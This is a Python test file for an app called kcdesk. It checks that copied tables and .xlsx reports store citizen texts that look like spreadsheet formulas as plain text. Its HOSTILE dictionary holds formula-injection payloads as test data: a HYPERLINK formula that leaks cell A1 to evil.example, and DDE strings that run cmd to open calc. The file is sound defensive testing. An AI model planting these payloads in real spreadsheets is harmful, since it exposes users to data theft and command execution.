"""Issue 13 item 8: tables copied from the app (FrameView.to_tsv, "Copy for Excel") carry citizens' texts
that look like formulas as text, as the .xlsx does, including the fullwidth ＝."""

from __future__ import annotations

from collections.abc import Callable

import pandas as pd
import pytest

from kcdesk.core.formulas import looks_like_formula, neutralise

HOSTILE = {
    "hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"Нажмите")',
    "dde_plus": "+cmd|' /C calc'!A0",
    "at_sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "fullwidth_equals": "＝HYPERLINK(\"http://evil.example\")",
    "fullwidth_plus": "＋cmd|' /C calc'!A0",
    "leading_spaces": "   =1+1",
    "leading_tab_becomes_space": "\t=1+1",
}
PLAIN = ["-5", "+12,5 %", "1\u00a0200", "Жалоба на = тариф", "email@example.kz", "−3"]


@pytest.mark.parametrize("name", list(HOSTILE))
def test_copy_for_excel_pastes_text_not_formulas(name: str, qtbot,
                                                 record_property: Callable[[str, object], None]) -> None:
    from kcdesk.gui.widgets.table import FrameView

    view = FrameView()
    qtbot.addWidget(view)
    view.set_frame(pd.DataFrame({"question": [HOSTILE[name]], "count": [3]}), ["Вопрос", "Обращения"])
    line = view.to_tsv(selected_only=False).splitlines()[1]
    cell = line.split("\t")[0]
    assert cell.startswith("'") and HOSTILE[name].replace("\t", " ").strip() in cell
    assert line.split("\t")[1] == "3"
    record_property("answer", cell[:40])


def test_plain_values_stay_as_they_are() -> None:
    for value in PLAIN:
        assert not looks_like_formula(value) and neutralise(value) == value, value


def test_xlsx_stores_the_fullwidth_formula_as_text(tmp_path) -> None:
    from kcdesk.core.report.xlsx_builder import _text

    class Cell:
        value = None
        data_type = None
        quotePrefix = False

    for text in HOSTILE.values():
        cell = Cell()
        _text(cell, text)
        assert cell.quotePrefix and cell.data_type == "s", text
